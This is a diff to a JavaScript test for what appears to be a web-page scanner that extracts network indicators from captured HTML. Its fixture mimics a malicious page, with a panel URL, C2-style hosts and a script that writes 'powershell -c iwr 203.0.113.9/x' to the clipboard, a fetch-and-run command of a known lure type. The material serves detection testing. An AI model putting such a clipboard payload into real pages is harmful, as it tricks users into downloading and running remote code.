@@ -234,11 +234,11 @@ describe("what is kept of a scan", () => {
   it("has the indicators of its scripts and comments as artifacts, and no fields of objects", () => {
     const html = `<html><body><!-- panel: http://203.0.113.7/in.php --><script>
       const to = "https://gate.example.net/a", one = '203.0.113.200', other = "c2-of-a-kit.com", ns = "http://www.w3.org/2000/svg";
-      form.name = item.org; navigator.clipboard.writeText("powershell -c iwr 203.0.113.9/x");</script></body></html>`;
+      form.name = item.org; fetch("https://host.example.net/u?id=" + id); fetch(\`https://host.example.net/\${id}\`); navigator.clipboard.writeText("powershell -c iwr 203.0.113.9/x");</script></body></html>`;
     const { Network } = keptOf(ID, capture(html, {}), judging).document.Data.Artifacts;
     const wanted = ["http://203.0.113.7/in.php", "https://gate.example.net/a", "203.0.113.200", "c2-of-a-kit.com"];
     expect(Network).toEqual(expect.arrayContaining([...wanted, "203.0.113.9"]));
-    expect(Network.filter((one) => /w3|item|name/.test(one))).toEqual([]);
+    expect(Network.filter((one) => /w3|item|name|host\./.test(one))).toEqual([]);
   });
 
   it("has technologies of the markup, and none of which a text tells", () => {
